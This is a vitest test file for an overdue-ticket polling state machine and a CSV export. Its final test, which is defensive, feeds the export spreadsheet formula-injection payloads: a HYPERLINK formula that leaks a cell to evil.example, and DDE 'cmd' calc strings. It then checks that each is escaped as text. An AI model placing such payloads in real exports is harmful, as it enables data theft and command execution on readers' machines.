import { afterEach, describe, expect, it, vi } from 'vitest';
import { createActor, SimulatedClock } from 'xstate';
import { OVERDUE_POLL_INTERVAL_MS } from '@contracts/common/constants';
import type { OverdueTicket } from '@contracts/overdue';
import { overdueMachine } from '@/shared/session/overdue.machine';
import * as log from '@/shared/log';
import { overdueCsv, OVERDUE_CSV_FILENAME } from '@/features/overdue/overdue-csv';
import { controllable, flush, httpError } from '@tests/support/controllable';
import { overdueTicket } from '@tests/support/staff-session-harness';

afterEach(() => vi.restoreAllMocks());

function polling() {
  const check = controllable<OverdueTicket[], { userId: string }>('checkOverdue');
  const clock = new SimulatedClock();
  const actor = createActor(overdueMachine.provide({ actors: { checkOverdue: check.logic } }), { input: { userId: '3' }, clock });
  actor.start();
  return { actor, check, clock };
}

describe('overdue polling', () => {
  it('checks at load and then every 3.5 hours, on simulated time', async () => {
    const { actor, check, clock } = polling();
    expect(check.calls).toHaveLength(1);
    check.resolve([overdueTicket(1)]);
    await flush();
    expect(actor.getSnapshot().matches({ polling: 'waiting' })).toBe(true);
    clock.increment(OVERDUE_POLL_INTERVAL_MS - 1);
    expect(check.calls).toHaveLength(0);
    clock.increment(1);
    expect(check.calls).toHaveLength(1);
    check.resolve([overdueTicket(1), overdueTicket(2)]);
    await flush();
    expect(actor.getSnapshot().context.tickets.map((t) => t.id)).toEqual([1, 2]);
    clock.increment(OVERDUE_POLL_INTERVAL_MS);
    expect(check.calls).toHaveLength(1);
  });

  it('keeps the last good list when a check fails, and only logs it', async () => {
    const spy = vi.spyOn(log, 'logError').mockImplementation(() => undefined);
    const { actor, check, clock } = polling();
    check.resolve([overdueTicket(5)]);
    await flush();
    clock.increment(OVERDUE_POLL_INTERVAL_MS);
    check.reject(httpError(500));
    await flush();
    expect(actor.getSnapshot().context.tickets.map((t) => t.id)).toEqual([5]);
    expect(actor.getSnapshot().matches({ polling: 'waiting' })).toBe(true);
    expect(spy).toHaveBeenCalledWith('overdue check failed', expect.anything());
    clock.increment(OVERDUE_POLL_INTERVAL_MS);
    expect(check.calls).toHaveLength(1);
  });

  it('stops checking once stopped (sign-out stops the actor)', async () => {
    const { actor, check, clock } = polling();
    check.resolve([]);
    await flush();
    actor.stop();
    clock.increment(OVERDUE_POLL_INTERVAL_MS * 3);
    expect(check.calls).toHaveLength(0);
  });

  it('opens and closes the modal independently of polling', async () => {
    const { actor, check } = polling();
    actor.send({ type: 'overdue.openModal' });
    expect(actor.getSnapshot().matches({ modal: 'open', polling: 'checking' })).toBe(true);
    check.resolve([]);
    await flush();
    actor.send({ type: 'overdue.closeModal' });
    expect(actor.getSnapshot().matches({ modal: 'closed', polling: 'waiting' })).toBe(true);
  });
});

describe('overdue CSV (spec 3)', () => {
  it('is named overdue_tickets.csv with the spec columns, and escapes quotes, commas and line breaks', () => {
    expect(OVERDUE_CSV_FILENAME).toBe('overdue_tickets.csv');
    const tricky: OverdueTicket = {
      ...overdueTicket(9),
      title: 'Printer "jam", again\nsecond line',
      company_name: null,
      contact: 'O\'Brien, Pat',
      status: 'WOT',
      severity: 'X',
    };
    const csv = overdueCsv([overdueTicket(1), tricky]);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('ID,Title,Status,Priority,Company,Contact,Email,Queue,Created At');
    expect(lines[1]).toBe('1,Ticket 1,Active,High,Acme Utilities,Casey,casey@acme.test,Support,2026-11-01T10:00:00Z');
    expect(csv).toContain('9,"Printer ""jam"", again\nsecond line",Waiting on Third Party,Unknown,N/A,"O\'Brien, Pat",');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('hands no formula to the spreadsheet: a client-written title or contact starting with = + - @ tab or CR becomes text', () => {
    const hostile: OverdueTicket = {
      ...overdueTicket(7),
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      contact: "=cmd|' /C calc'!A0",
      contact_email: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      company_name: '+1+1',
      queue: '-2+3',
    };
    const cells = overdueCsv([hostile]).split('\r\n')[1]!;
    expect(cells).toBe(
      `7,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Active,High,'+1+1,'=cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3,2026-11-01T10:00:00Z`,
    );
    const titled = (title: string) => overdueCsv([{ ...overdueTicket(8), title }]).split('\r\n').slice(1).join('\r\n');
    expect(titled('\t=1+1')).toMatch(/^8,'\t=1\+1,/);
    expect(titled('\r=1+1')).toMatch(/^8,"'\r=1\+1",/);
  });
});
